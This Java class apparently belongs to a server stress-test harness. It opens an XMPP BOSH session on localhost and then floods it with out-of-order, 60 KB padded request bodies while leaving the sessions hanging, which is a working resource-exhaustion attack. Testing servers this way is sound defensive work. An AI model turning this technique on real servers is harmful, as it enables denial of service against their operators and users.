package chat.mongoose.gauntlet;

import java.io.IOException;
import java.net.Socket;
import java.time.Duration;

/** BOSH sessions that are opened and left, with bodies ahead of their turn. */
final class BoshHoarders implements Attack {

  private static final String OPEN =
      "<body xmlns='http://jabber.org/protocol/httpbind' to='localhost' rid='1' wait='60' hold='1'"
          + " ver='1.11' content='text/xml; charset=utf-8' xml:lang='en' xmpp:version='1.0'"
          + " xmlns:xmpp='urn:xmpp:xbosh'/>";
  private static final String AHEAD =
      "<body xmlns='http://jabber.org/protocol/httpbind' rid='%d' sid='%s'><a xmlns='u'>%s</a></body>";
  private static final int HEAD = 8192;

  @Override
  public String name() {
    return "BOSH sessions that are left behind";
  }

  @Override
  public void go(Ground ground) throws IOException {
    var socket = ground.socket();
    post(ground, socket, OPEN);
    var answer = new String(socket.getInputStream().readNBytes(1), "ISO-8859-1") + read(socket);
    var at = answer.indexOf("sid=") + 5;
    if (at > 4) {
      var sid = answer.substring(at, answer.indexOf(answer.charAt(at - 1), at));
      for (int rid = 3; rid < 6; rid++) {
        post(ground, ground.socket(), AHEAD.formatted(rid, sid, "x".repeat(60_000)));
      }
    }
    ground.rest(Duration.ofMillis(20));
  }

  private static void post(Ground ground, Socket socket, String body) throws IOException {
    ground.write(
        socket,
        ground.request("POST", "/http-bind")
            + "Content-Type: text/xml; charset=utf-8\r\nContent-Length: "
            + body.length()
            + "\r\n\r\n"
            + body);
  }

  private static String read(Socket socket) throws IOException {
    var octets = new byte[HEAD];
    var length = socket.getInputStream().read(octets);
    return length < 0 ? "" : new String(octets, 0, length, "ISO-8859-1");
  }
}
